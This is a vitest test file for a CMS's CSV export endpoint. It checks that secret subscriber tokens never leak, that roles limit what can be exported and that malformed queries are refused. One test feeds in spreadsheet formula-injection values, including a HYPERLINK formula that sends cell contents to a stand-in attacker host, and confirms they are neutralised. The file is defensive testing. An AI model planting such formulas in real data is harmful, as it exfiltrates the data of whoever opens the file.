import { describe, expect, it } from 'vitest'

import { EXPORTABLE } from '@/collections/registry'
import { createUser, testPayload, unique } from '../../factories'
import { cms, createInboxItem } from './inboxItems'

type Who = Parameters<typeof cms>[2]

/** What the admin's export drawer sends when the creator presses Download. */
const download = (as: Who, data: Record<string, unknown>) => cms('POST', '/exports/download', as, { body: { data: { format: 'csv', ...data } } })

const preview = (as: Who, body: Record<string, unknown>) => cms('POST', '/exports/export-preview', as, { body: { format: 'csv', ...body } })

/** The CSV's rows as objects (the plugin writes a BOM, a header row, then quoted values where needed). */
const parseCsv = (text: string): Record<string, string>[] => {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const body = text.replace(/^\uFEFF/, '')
  const endCell = () => {
    row.push(cell)
    cell = ''
  }
  for (let i = 0; i < body.length; i++) {
    const c = body[i]
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"'
      i++
    } else if (c === '"') {
      quoted = !quoted
    } else if (!quoted && c === ',') {
      endCell()
    } else if (!quoted && c === '\n') {
      endCell()
      rows.push(row)
      row = []
    } else if (quoted || c !== '\r') {
      cell += c
    }
  }
  if (cell || row.length) {
    endCell()
    rows.push(row)
  }
  const [header = [], ...data] = rows
  return data.map((values) => Object.fromEntries(header.map((name, i) => [name, values[i] ?? ''])))
}

const subscriber = async () => {
  const payload = await testPayload()
  const token = unique('secret-token').replace(/[^a-z0-9-]/gi, '')
  const doc = await payload.create({
    collection: 'newsletter-subscribers',
    data: { email: `${unique('reader').toLowerCase()}@example.test`, status: 'active', topics: ['general', 'podcast'], token },
    depth: 0,
  })
  return { ...doc, token }
}

describe('the inbox exported as CSV (the import-export plugin’s download)', () => {
  it('the creator’s subscribers export has each subscriber’s row and never the secret token', async () => {
    const creator = await createUser({ role: 'admin' })
    const reader = await subscriber()

    const res = await download(creator, { collectionSlug: 'newsletter-subscribers', where: { email: { equals: reader.email } } })
    expect(res.status, res.text).toBe(200)
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/)
    const rows = parseCsv(res.text)
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({ id: String(reader.id), email: reader.email, status: 'active', topics_0: 'general', topics_1: 'podcast' })
    expect(Object.keys(rows[0])).not.toContain('token')
    expect(res.text).not.toContain(reader.token)

    // The whole list (what "All" exports) holds them too, still without tokens.
    const all = await download(creator, { collectionSlug: 'newsletter-subscribers' })
    expect(parseCsv(all.text).map((r) => r.email)).toContain(reader.email)
    expect(all.text.split('\n')[0]).not.toMatch(/token/)
    expect(all.text).not.toContain(reader.token)
  })

  it('writes what visitors typed as text, never as a formula a spreadsheet would run', async () => {
    const creator = await createUser({ role: 'admin' })
    const payload = await testPayload()
    const email = `${unique('formula').toLowerCase()}@example.test`
    const hostile = {
      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      subject: '+SUM(1,2)',
      message: '-2+3\nand a second line',
    }
    await payload.create({ collection: 'contact-messages', data: { ...hostile, email, status: 'new' }, depth: 0 })
    for (const [field, value] of Object.entries({ '@cmd': '@SUM(A1)', tab: '\t=1+1', cr: '\r=1+1' })) {
      await payload.create({ collection: 'book-suggestions', data: { title: `${unique(field)}`, author: value, reason: 'A reason long enough to be kept.', status: 'new' }, depth: 0 })
    }
    const res = await download(creator, { collectionSlug: 'contact-messages', where: { email: { equals: email } } })
    expect(res.status, res.text).toBe(200)
    const [row] = parseCsv(res.text)
    expect(row).toMatchObject({ name: `'${hostile.name}`, subject: `'${hostile.subject}`, message: `'${hostile.message}`, email })
    const books = parseCsv((await download(creator, { collectionSlug: 'book-suggestions', where: { author: { in: ['@SUM(A1)', '\t=1+1', '\r=1+1'] } } })).text)
    // (The collection keeps a one-line field without its carriage return: "=1+1" is what is left.)
    expect(books.map((b) => b.author).sort()).toEqual(["'=1+1", "'\t=1+1", "'@SUM(A1)"].sort())
  })

  it('asking for the token, filtering or sorting on it, is refused (400), never a 200 or a broken answer', async () => {
    const creator = await createUser({ role: 'admin' })
    const reader = await subscriber()
    for (const ask of [
      { fields: ['email', 'token'] },
      { where: { token: { equals: reader.token } } },
      { where: { or: [{ token: { like: 'secret' } }] } },
      { sort: '-token' },
    ]) {
      const res = await download(creator, { collectionSlug: 'newsletter-subscribers', ...ask })
      expect(res.status, JSON.stringify(ask)).toBe(400)
      expect(res.text).not.toContain(reader.token)
    }
    const previewed = await preview(creator, { collectionSlug: 'newsletter-subscribers', where: { token: { equals: reader.token } } })
    expect(previewed.status).toBe(400)
  })

  it('an export of anything but the inbox, or of a body that is not the form’s, is refused (4xx)', async () => {
    const creator = await createUser({ role: 'admin' })
    for (const ask of [{ collectionSlug: 'users' }, { collectionSlug: 'exports' }, { collectionSlug: 'no-such-collection' }, { collectionSlug: 12 }, {}]) {
      const res = await download(creator, ask)
      expect(res.status, JSON.stringify(ask)).toBe(400)
      expect(res.json.errors[0].message).toBeTruthy()
    }
    expect((await preview(creator, { collectionSlug: 'users' })).status).toBe(400)
    const malformed = await cms('POST', '/exports/download', creator, { body: '{"data": {', headers: { 'content-type': 'application/json' } })
    expect(malformed.status).toBe(400)
    const huge = await cms('POST', '/exports/download', creator, {
      body: JSON.stringify({ data: { collectionSlug: 'contact-messages', where: { id: { not_in: 'x'.repeat(3 * 1024 * 1024) } } } }),
      headers: { 'content-type': 'application/json' },
    })
    expect(huge.status).toBe(413)
  })

  it.each(EXPORTABLE)('%s: a hostile query is answered 4xx, never 500', { timeout: 60_000 }, async (collectionSlug) => {
    const creator = await createUser({ role: 'admin' })
    const asks: Record<string, unknown>[] = [
      { format: 'json' },
      { where: { no_such_field: { equals: 1 } } },
      { where: { id: { equals: 'not-a-number' } } },
      { where: { id: { in: Array.from({ length: 5000 }, (_, i) => i) } } },
      { where: 'status=new' },
      { fields: ['__proto__'] },
      { fields: ['submittedBy.email'] },
      { fields: ['no_such_field'] },
      { sort: 'no_such_field' },
      { limit: -5 },
      { page: -1 },
      { page: 'two' },
    ]
    for (const ask of asks) {
      const res = await download(creator, { collectionSlug, ...ask })
      expect(res.status, `${JSON.stringify(ask).slice(0, 200)} → ${res.text.slice(0, 200)}`).toBe(400)
    }
    // A value Payload reads as no date at all matches nothing: an empty file, not a failure.
    const noDate = await download(creator, { collectionSlug, where: { createdAt: { greater_than: 'not a date' } } })
    expect(noDate.status).toBeLessThan(500)
    // Options the form does not have are dropped, not obeyed: the export still works.
    const extra = await download(creator, { collectionSlug, batchSize: 0, exportCollection: 'users', id: 1, debug: true })
    expect(extra.status, extra.text.slice(0, 200)).toBe(200)
  })

  it('an editor exports the suggestions, but never a donation', async () => {
    const editor = await createUser({ role: 'editor' })
    const [suggestion, donation] = await Promise.all([createInboxItem('book-suggestions'), createInboxItem('donations')])

    const books = await download(editor, { collectionSlug: 'book-suggestions', where: { id: { equals: suggestion.id } } })
    expect(books.status, books.text).toBe(200)
    expect(parseCsv(books.text).map((r) => r.title)).toEqual([suggestion.title])

    const gifts = await download(editor, { collectionSlug: 'donations' })
    expect(gifts.status).toBe(403)
    expect(gifts.text).not.toContain(String(donation.stripeSessionId))
    expect((await preview(editor, { collectionSlug: 'donations' })).status).toBe(403)
  })

  it('the creator’s donations export has the gift', async () => {
    const creator = await createUser({ role: 'admin' })
    const donation = await createInboxItem('donations')
    const res = await download(creator, { collectionSlug: 'donations', where: { id: { equals: donation.id } } })
    expect(res.status).toBe(200)
    expect(parseCsv(res.text)).toEqual([expect.objectContaining({ id: String(donation.id), amount: '25', stripeSessionId: String(donation.stripeSessionId) })])
  })

  it('members and strangers export nothing', async () => {
    const member = await createUser()
    await subscriber()
    for (const who of [member, null]) {
      const res = await download(who, { collectionSlug: 'newsletter-subscribers' })
      expect([401, 403]).toContain(res.status)
      expect(res.text).not.toMatch(/@example\.test/)
      expect([401, 403]).toContain((await preview(who, { collectionSlug: 'newsletter-subscribers' })).status)
    }
  })

  it('an export is downloaded, never saved as a file on the server', async () => {
    const creator = await createUser({ role: 'admin' })
    const saved = await cms('POST', '/exports', creator, { body: { collectionSlug: 'newsletter-subscribers', format: 'csv' } })
    expect(saved.status).toBe(403)
    const payload = await testPayload()
    expect((await payload.count({ collection: 'exports' })).totalDocs).toBe(0)
  })
})
